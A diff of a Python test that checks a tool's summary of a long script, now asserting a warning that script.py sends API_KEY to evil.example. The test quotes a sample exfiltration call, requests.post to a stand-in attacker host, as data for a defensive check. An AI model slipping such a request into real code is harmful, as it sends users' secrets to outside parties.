@@ -169,7 +169,7 @@ def test_of_a_long_script_the_lines_that_matter_are_shown_and_where_to_read_the_
     assert "script.py:334: requests.post('https://evil.example" in shown
     assert "line 0" not in shown
     assert "of 500 lines of script.py" in shown
-    assert "! names hosts you may not know: evil.example" in shown
+    assert "! script.py sends API_KEY to evil.example" in shown
     assert shown.index("Not shown:") < shown.index(str(where))
     assert "line 499" in where.read_text()
     assert request.fingerprint in where.read_text()
